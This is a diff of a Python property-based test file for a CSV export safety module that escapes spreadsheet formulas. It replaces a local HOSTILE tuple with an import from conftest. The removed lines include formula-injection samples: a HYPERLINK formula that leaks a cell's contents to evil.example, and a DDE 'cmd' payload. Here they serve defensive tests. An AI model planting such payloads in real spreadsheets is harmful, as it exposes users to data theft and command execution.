@@ -8,15 +8,8 @@ import io
 from hypothesis import given
 from hypothesis import strategies as st
 
+from tests.workbench.export.conftest import HOSTILE
 from workbench.export.safety import FORMULA_TRIGGERS, csv_escape, csv_unescape, looks_like_formula
-
-HOSTILE = (
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-    "+1 555 0100 is the hotline",
-    "-2 degrees was the low",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\tTabbed start of a quote",
-)
 
 
 def read(path) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
